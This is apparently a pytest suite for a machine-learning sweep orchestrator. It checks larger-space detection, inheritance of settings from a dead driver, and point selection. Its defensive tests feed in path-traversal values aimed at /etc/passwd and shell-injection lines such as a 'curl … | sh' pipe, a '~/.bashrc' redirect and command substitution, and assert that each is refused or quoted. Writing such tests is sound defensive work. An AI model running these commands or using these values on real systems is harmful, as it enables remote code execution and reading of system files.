"""Which spaces are larger ones of a sweep's, what differs in the others, and what is taken over."""

from __future__ import annotations

import builtins
import io
import shlex
import sys
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from orchestrator.plan.jobs import Plan
from orchestrator.steering.chosen_points import chosen_keys
from orchestrator.steering.inherited import Inheritance, inherit
from orchestrator.steering.larger_space import (
    NotLargerError,
    check_larger,
    differences,
    keys_of,
    read_space,
)
from orchestrator.steering.words import in_turn, typed_anew
from orchestrator.storage.store import Store
from search_spaces import OperatingPoint, Space, load_space, operating_points, select

THEIRS = "python -m orchestrator.sweep theirs"
SMALL = ("codecs.0.lambdas=[0.02]", "scenarios=[d1]", "baselines=[reconstruction]")
LARGE = ("codecs.0.lambdas=[0.02, 0.002]", "scenarios=[d1, d2]", "baselines=[reconstruction]")

OTHER_ORDER = "tasks=[vqa, rec, captioning, fewshot]"


def plan(*settings: str) -> Plan:
    space = load_space("smoke", settings)
    return Plan(space, operating_points(space), {}, None)


@pytest.mark.parametrize(
    "larger",
    [
        LARGE,
        SMALL,
        (*SMALL, "seeds=[0, 1]"),
        # Settings of what only the larger space has.
        (*LARGE, "d2.steps=99"),
        # How something is computed, not what.
        (*LARGE, "d1.checkpoint_every=2", "evaluation.batch_size=3"),
    ],
)
def test_a_space_with_all_points_of_the_sweep_is_a_larger_one(larger: tuple[str, ...]) -> None:
    check_larger(plan(*SMALL), plan(*larger))


@pytest.mark.parametrize(
    ("other", "message"),
    [
        ((*LARGE, "d1.steps=16"), "d1.steps = 16, in the sweep that runs 8"),
        (("codecs.0.lambdas=[0.002]", *SMALL[1:]), "codecs.0.lambdas = [0.002]"),
        (("scenarios=[d2]", SMALL[0], SMALL[2]), 'scenarios = ["d2"]'),
        ((*LARGE, "tasks=[vqa, rec]"), 'tasks = ["vqa", "rec"], in the sweep'),
        ((*LARGE, OTHER_ORDER), "measures 2 operating points otherwise"),
        ((*LARGE, "resources.max_failures=7"), "resources.max_failures = 7"),
        ((*LARGE, "codecs.0.name=mine"), 'codecs.0.name = "mine", in the sweep'),
        ((*LARGE, "variants={a: {}, b: {d1.steps: 9}}"), "names 1 operating point otherwise"),
    ],
)
def test_what_another_space_changes_is_named(other: tuple[str, ...], message: str) -> None:
    with pytest.raises(NotLargerError) as error:
        check_larger(plan(*SMALL), plan(*other))
    assert message in str(error.value)


@pytest.mark.parametrize(
    "change", ["d1.steps=16", "codecs.0.name=mine", "tasks=[rec]", "seeds=[1]", "codecs.0.N=24"]
)
def test_what_follows_from_a_changed_setting_is_not_said_again(change: str) -> None:
    with pytest.raises(NotLargerError) as error:
        check_larger(plan(*SMALL), plan(*LARGE, change))
    lines = str(error.value).splitlines()
    assert lines
    assert all(", in the sweep that runs " in line for line in lines), lines


def test_other_resources_do_not_hide_that_points_are_measured_otherwise() -> None:
    other = plan(*LARGE, OTHER_ORDER, "resources.max_failures=7")
    with pytest.raises(NotLargerError) as error:
        check_larger(plan(*SMALL), other)
    first, second = str(error.value).splitlines()
    assert first.startswith("resources.max_failures = 7")
    assert "measures 2 operating points otherwise" in second


def test_changed_files_are_told_from_changed_settings() -> None:
    space = load_space("smoke", SMALL)
    other = Plan(space, operating_points(space), {"shipped:clip-scenes": "another checksum"}, None)
    keys = plan(*SMALL).wanted.keys()
    assert keys != other.wanted.keys(), "the teacher's checksum is in the keys"
    with pytest.raises(NotLargerError, match="not the files that it names"):
        check_larger(plan(*SMALL), other)


def test_only_what_is_lost_or_changed_is_a_difference() -> None:
    before = {"a": 1, "list": [1, 2], "specs": [{"x": 1, "rates": [1]}], "name": "small"}
    after = {"a": 1, "b": 2, "list": [2, 3, 1], "specs": [{"x": 2, "rates": [1, 4]}], "name": "l"}
    assert list(differences(before, after)) == ["specs.0.x = 2, in the sweep that runs 1"]
    assert list(differences(after, before)) == [
        "b = null, in the sweep that runs 2",
        "list = [1, 2], in the sweep that runs [2, 3, 1]",
        "specs.0.x = 1, in the sweep that runs 2",
        "specs.0.rates = [1], in the sweep that runs [1, 4]",
    ]


def test_a_space_is_the_same_behind_its_way_through_the_storage() -> None:
    space = load_space("smoke", LARGE)
    assert read_space(space.model_dump(mode="json"), space) == space
    with pytest.raises(NotLargerError, match="seeds"):
        read_space({**space.model_dump(mode="json"), "seeds": "many"}, space)


CODEC = {"arch": "mbt2018-mean", "N": 8, "M": 8, "lambdas": [0.02], "name": "other"}


@pytest.mark.parametrize(
    "change",
    [
        {"codecs": [{**CODEC, "weights": "/etc/passwd"}]},
        {"codecs": [{**CODEC, "weights": "shipped:../../../etc/passwd"}]},
        {"codecs": [{**CODEC, "weights": "file:/etc/passwd"}]},
        {"codecs": [{**CODEC, "weights": "~/w.safetensors"}]},
        {"codecs": [{**CODEC, "weights": "pyproject.toml"}]},
        {"codecs": [{**CODEC, "released": {"d1": ["/etc/passwd"]}}]},
        {"mllms": ["somebody/model"]},
        {"teacher": {"model": "/etc"}},
        {
            "data": {"kind": "folder", "uri": "s3://bucket/x", "size": 64},
            "tasks": ["classification"],
        },
        {
            "data": {"kind": "folder", "uri": "simplecache::http://host/x", "size": 64},
            "tasks": ["classification"],
        },
        {"surrogate": {"classes": "/etc/passwd"}},
        {"surrogate": {"templates": "/etc/passwd"}},
        {"variants": {"a": {}, "b": {"surrogate.classes": "etc/passwd"}}},
        {"benchmarks": [{"format": "pope", "annotations": "/a.json", "images": "/i"}]},
    ],
)
def test_a_file_that_the_sweep_does_not_name_is_refused_and_not_read(
    change: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever may write into the storage could else have the driver read its machine's files."""
    space = load_space("smoke", SMALL)
    data = space.model_dump(mode="json")
    data = {**data, **{k: [*data[k], *v] if k == "codecs" else v for k, v in change.items()}}
    opened: list[str] = []
    real_open = io.open

    def recorded(file: Any, *given: Any, **options: Any) -> Any:
        opened.append(str(file))
        return real_open(file, *given, **options)

    for module in (io, builtins):
        monkeypatch.setattr(module, "open", recorded)
    with pytest.raises(NotLargerError, match=r"names a file or model .*--name of its own"):
        read_space(data, space)
    foreign = {"/etc/passwd", str(Path("pyproject.toml").absolute()), "/a.json", "/q.json"}
    assert foreign & set(opened) == set()


def test_files_of_the_sweep_and_of_the_installation_may_be_named(tmp_path: Path) -> None:
    weights = tmp_path / "w.safetensors"
    weights.touch()
    given = f"codecs=[{{arch: mbt2018-mean, N: 8, M: 8, weights: {weights}, lambdas: [0.02]}}]"
    space = load_space("smoke", (*SMALL[1:], given))
    data = space.model_dump(mode="json")
    larger = [{**data["codecs"][0], "lambdas": [0.02, 0.002]}, {**CODEC, "N": 16}]
    data = {**data, "codecs": larger, "description": "of http://host/page: /x"}
    assert read_space(data, space).codecs[0].weights == str(weights)


@pytest.mark.parametrize(
    "change",
    [
        {"scenarios": ["d1", "elsewhere"]},
        {"codecs": [{"arch": "elsewhere"}]},
        {"elsewhere": {"steps": 3}},
        {"variants": {"a": {}, "b": {"elsewhere.steps": 3}}},
        {"benchmarks": [{"format": "elsewhere"}]},
    ],
)
def test_an_extension_that_the_sweep_does_not_name_is_refused_and_not_imported(
    change: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    info = tmp_path / "elsewhere-1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: elsewhere\nVersion: 1\n")
    groups = ("scenarios", "codecs", "benchmarks")
    points = "".join(f"[bridgesweep.{g}]\nelsewhere = elsewhere_module:THING\n" for g in groups)
    (info / "entry_points.txt").write_text(points)
    (tmp_path / "elsewhere_module.py").write_text("raise AssertionError('imported')")
    space = load_space("smoke", SMALL)
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(NotLargerError, match=r"names an extension .*elsewhere"):
        read_space({**space.model_dump(mode="json"), **change}, space)
    assert "elsewhere_module" not in sys.modules


def test_a_space_that_is_nested_too_deeply_is_refused() -> None:
    space = load_space("smoke", SMALL)
    deep: Any = 1
    for _ in range(100_000):
        deep = [deep]
    with pytest.raises(NotLargerError):
        read_space({**space.model_dump(mode="json"), "variants": {"a": {"d1.lr": deep}}}, space)


def labels(plan: Plan, keys: Iterable[str]) -> set[str]:
    return {plan.wanted[key].label for key in keys}


def test_points_are_found_by_their_fields_in_a_larger_space() -> None:
    small, large = plan(*SMALL), plan(*LARGE)
    keys = keys_of(large, [point.fields for point in small.points])
    assert keys == small.wanted.keys()


def test_a_person_names_points_by_key_label_and_filter() -> None:
    sweep = plan(*LARGE)
    d1 = "hyperprior d1 lambda=0.02 seed=0"
    (key,) = (key for key, point in sweep.wanted.items() if point.label == d1)
    assert chosen_keys(sweep, [key]) == chosen_keys(sweep, [d1]) == {key}
    d2 = chosen_keys(sweep, ["scenario=d2", "lambda=0.02", key])
    assert d2 == chosen_keys(sweep, ["scenario=d2", "lmbda=0.02", key])
    assert labels(sweep, d2) == {d1, "hyperprior d2 lambda=0.02 seed=0"}


def test_what_names_no_point_is_said_with_what_there_is() -> None:
    with pytest.raises(ValueError, match="no operating point") as error:
        chosen_keys(plan(*SMALL), ["nothing", "scenario=d3"])
    first, second = str(error.value).splitlines()
    assert "'nothing'" in first
    assert "there are d1, reconstruction" in second
    assert "--only" not in second


def test_a_mistyped_label_is_told_with_the_closest_ones_and_is_no_filter() -> None:
    with pytest.raises(ValueError, match="key or label") as error:
        chosen_keys(plan(*SMALL), ["hyperprior d1 lambda=0.03 seed=0", "quality=3"])
    label, field = str(error.value).splitlines()
    assert "the closest labels are hyperprior d1 lambda=0.02 seed=0" in label
    assert field.startswith("'quality=3': no operating point of this sweep has this key or label; ")
    assert field.endswith("with a field of codec, lambda, scenario, seed, variant")


def jobs_by_label(plan: Plan) -> dict[str, str]:
    return {job.label: key for key, job in plan.jobs.items()}


def test_a_plan_that_grows_has_the_jobs_and_points_of_the_larger_space() -> None:
    small, large = plan(*SMALL), plan(*LARGE)
    keys = dict(small.wanted)
    jobs = small.jobs_added_by(large)
    assert jobs.keys() == large.jobs.keys() - small.jobs.keys()
    small.grow(large, jobs)
    assert small.jobs.keys() == large.jobs.keys()
    assert small.wanted == large.wanted
    for key, point in keys.items():
        assert small.key(point) == key
        assert small.evaluations(point) == large.evaluations(point)


def test_a_point_that_is_only_trained_for_others_gets_its_evaluations_when_it_is_added() -> None:
    space = load_space("smoke", LARGE)
    some = Plan(space, select(operating_points(space), ["scenario=d2"]), {}, None)
    whole = Plan(space, operating_points(space), {}, None)
    added = {job.label: job for job in some.jobs_added_by(whole).values()}
    d1 = added["hyperprior d1 lambda=0.02 seed=0"]
    assert d1.key in some.jobs
    assert (len(some.jobs[d1.key].evaluations), len(d1.evaluations)) == (0, 4)


def inherited(
    settings: tuple[str, ...], only: tuple[str, ...], added: tuple[str, ...], directory: Path
) -> Inheritance:
    """What a driver takes over of what was added before."""
    space, before = load_space("smoke", settings), load_space("smoke", added)
    fields = [point.fields for point in operating_points(before)]
    content = {
        "space": before.model_dump(mode="json"),
        "points": fields,
        "added": fields,
        "command": THEIRS,
    }
    points: tuple[OperatingPoint, ...] = select(operating_points(space), only)
    return inherit(space, points, "mine", content, Store(str(directory)))


def test_the_next_driver_takes_over_what_was_added_to_the_one_that_died(tmp_path: Path) -> None:
    taken = inherited(SMALL, (), LARGE, tmp_path)
    assert taken.space == load_space("smoke", LARGE)
    assert set(taken.points) == set(operating_points(taken.space))
    assert (taken.count, taken.command) == (4, THEIRS)


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://elsewhere.example | sh",
        *(
            f"{THEIRS}; curl elsewhere",
            f"{THEIRS} && ls",
            f"{THEIRS} > ~/.bashrc",
            f"{THEIRS} & ls",
        ),
        *(f"{THEIRS}\x1b[8m", f"{THEIRS}\nls", f"{THEIRS} | sh", "", "python -c 'import os'"),
    ],
)
def test_nobody_is_told_to_type_what_another_writer_of_the_storage_would_like(line: str) -> None:
    with pytest.raises(ValueError, match="none of this program"):
        typed_anew(line)


@pytest.mark.parametrize("word", ["d1.steps=4", "teacher.model=/a b/c", "x='$(ls)'", "a;b", "`ls`"])
def test_the_commands_of_other_drivers_are_typed_as_they_were(word: str) -> None:
    line = in_turn([shlex.join([*THEIRS.split(), "--set", word]), THEIRS])
    assert typed_anew(line) == line


def test_what_a_shell_would_put_into_a_command_is_quoted() -> None:
    assert typed_anew(f"{THEIRS} $HOME `ls`") == f"{THEIRS} '$HOME' '`ls`'"


def test_a_space_of_millions_of_points_is_refused_before_they_are_listed() -> None:
    data = load_space("smoke").model_dump(mode="json")
    data["codecs"][0]["lambdas"] = [0.001 + n / 1e6 for n in range(1000)]
    data["seeds"] = list(range(1000))
    with pytest.raises(NotLargerError, match="6,000,000 operating points; 100,000 can be added"):
        read_space(data, load_space("smoke"))


def test_a_command_with_all_that_was_added_takes_nothing_over(tmp_path: Path) -> None:
    taken = inherited(LARGE, (), SMALL, tmp_path)
    assert (taken.count, taken.command) == (0, "mine")
    assert taken.space == load_space("smoke", LARGE)


def test_what_neither_command_has_alone_needs_both(tmp_path: Path) -> None:
    taken = inherited(LARGE, ("scenario=d2",), SMALL, tmp_path)
    wanted = {(point.scenario, point.lmbda) for point in taken.points}
    assert wanted == {("d2", 0.02), ("d2", 0.002), ("d1", 0.02), ("reconstruction", 0.02)}
    assert (taken.count, taken.command) == (2, f"{THEIRS}; mine")


def test_what_was_added_to_another_space_is_not_taken_over(tmp_path: Path) -> None:
    with pytest.raises(NotLargerError, match=r"d1\.steps"):
        inherited((*SMALL, "d1.steps=16"), (), LARGE, tmp_path)


def test_a_searched_space_is_neither_added_nor_added_to() -> None:
    search = "search={algorithm: random, trials: 2, over: {d1.lr: {log_uniform: [1.0e-5, 0.1]}}}"
    searched: Space = load_space("smoke", (SMALL[0], SMALL[1], "baselines=[]", search))
    whole = Plan(searched, operating_points(searched), {}, None)
    with pytest.raises(NotLargerError, match="search"):
        check_larger(whole, whole)
